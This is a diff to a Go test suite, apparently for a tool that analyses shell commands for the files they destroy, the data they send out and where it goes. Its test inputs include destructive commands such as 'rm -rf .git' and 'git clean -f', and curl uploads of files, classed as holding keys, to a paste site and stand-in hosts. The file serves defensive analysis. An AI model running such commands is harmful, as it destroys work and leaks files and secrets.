@@ -5,6 +5,7 @@ import (
 	"os/exec"
 	"strings"
 	"testing"
+	"time"
 )
 
 // repository makes a repository with one commit of the files a and sub/b.
@@ -135,6 +136,45 @@ func TestCollectors(t *testing.T) {
 			w.git("checkout", "-q", "main")
 		}, "git branch -D topic", map[string]string{"git_targets.unpushed": "1"}},
 		{"targets: what is removed is not known", pushed, "rm -r $DIR", map[string]string{"git_targets.untracked_affected": "unknown", "git_targets.recoverable": "unknown"}},
+		{"targets: in the folder that the command goes to", func(w world) {
+			pushed(w)
+			w.write(map[string]string{"sub/new": "", "loose": ""})
+		}, "cd sub && git clean -f", map[string]string{"git_targets.untracked_affected": "1 new", "git_state.repository": "true"}},
+		{"targets: in the folder that an option names", func(w world) {
+			pushed(w)
+			w.write(map[string]string{"sub/new": "", "loose": ""})
+		}, "git -C sub clean -f", map[string]string{"git_targets.untracked_affected": "1 new"}},
+		{"targets: in several folders", func(w world) {
+			pushed(w)
+			w.write(map[string]string{"sub/new": "", "loose": ""})
+		}, "git status; cd sub; git clean -f", map[string]string{"git_targets.untracked_affected": "unknown", "git_targets.recoverable": "unknown", "git_state.dirty": "unknown"}},
+		{"targets: another repository by option or variable", func(w world) {
+			pushed(w)
+			w.write(map[string]string{"loose": ""})
+		}, "git --git-dir ../x/.git --work-tree ../x clean -f", map[string]string{"git_targets.untracked_affected": "unknown"}},
+		{"targets: a variable that git reads", func(w world) {
+			pushed(w)
+			w.write(map[string]string{"loose": ""})
+		}, "GIT_DIR=../x/.git git clean -f", map[string]string{"git_targets.untracked_affected": "unknown, at least 1"}},
+		{"targets: an option that is not known", pushed, "git clean $FLAGS", map[string]string{"git_targets.untracked_affected": "unknown", "git_targets.ignored_affected": "unknown"}},
+		{"targets: a command that does what its input says", pushed, "make clean", map[string]string{"git_state.repository": "true", "git_targets.untracked_affected": "not collected"}},
+		{"targets: outside as well", func(w world) {
+			pushed(w)
+			w.write(map[string]string{"~/x": ""})
+		}, "rm a ../x", map[string]string{"git_targets.untracked_affected": "unknown", "git_targets.recoverable": "unknown"}},
+		{"targets: the history itself", pushed, "rm -rf .git", map[string]string{"git_targets.recoverable": "false"}},
+		{"git: a change with the size and the time that were there before", func(w world) {
+			pushed(w)
+			at := time.Now().Add(-time.Hour)
+			_ = os.Chtimes(w.path("a"), at, at)
+			w.git("update-index", "--refresh")
+			w.write(map[string]string{"a": "two\n"})
+			_ = os.Chtimes(w.path("a"), at, at)
+		}, "git status", map[string]string{"git_state.dirty": "1"}},
+		{"git: a file that git was told not to look at", func(w world) {
+			pushed(w)
+			w.git("update-index", "--assume-unchanged", "a")
+		}, "rm a", map[string]string{"git_targets.modified": "unknown", "git_targets.untracked_affected": "0", "git_targets.recoverable": "unknown"}},
 		{"targets: no repository", func(w world) { w.write(map[string]string{"a": ""}) }, "rm a", map[string]string{
 			"git_targets.untracked_affected": "0", "git_targets.recoverable": "false",
 		}},
@@ -200,7 +240,7 @@ func TestCollectors(t *testing.T) {
 		}},
 		{"jobs: no scheduler", func(w world) { w.write(map[string]string{"data": ""}) }, "rm data", map[string]string{"schedulers.jobs": "unknown"}},
 
-		{"destination: paste", pushed, "curl -d @a https://user:hunter2@paste.rs/x?token=hunter2", map[string]string{
+		{"destination: paste", pushed, "curl -d @a https://paste.rs/x?token=hunter2", map[string]string{
 			"destination.hosts": "1 paste.rs", "destination.classes": "1 paste", "destination.known_remote": "false",
 		}},
 		{"destination: the remote", pushed, "curl https://git.example.org/x", map[string]string{
@@ -218,6 +258,7 @@ func TestCollectors(t *testing.T) {
 		}, "curl -T a https://x.example; curl -d @b https://x.example", map[string]string{
 			"payload_class.files": "2", "payload_class.secrets": "2 cloud key 1, private key 1", "payload_class.personal": "2", "payload_class.licence_header": "true",
 		}},
+		{"payload: commits", pushed, "git push", map[string]string{"payload_class.files": "unknown", "payload_class.secrets": "unknown"}},
 		{"payload: a large file", func(w world) {
 			w.write(map[string]string{"a": strings.Repeat("x", 2<<20)})
 		}, "curl -T a https://x.example", map[string]string{"payload_class.files": "unknown, at least 1", "payload_class.secrets": "unknown"}},
